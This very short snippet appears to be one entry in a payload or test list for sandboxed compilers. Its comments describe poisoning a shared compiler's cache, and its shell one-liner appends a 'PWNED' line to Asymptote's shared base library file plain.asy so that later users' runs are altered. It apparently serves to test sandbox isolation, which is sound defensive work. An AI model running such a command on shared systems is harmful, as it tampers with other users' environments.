# tries: change asy's base library for everybody after us
# from: poisoned caches of shared compilers
echo 'write("PWNED");' >> /usr/share/asymptote/plain.asy && echo PWNED
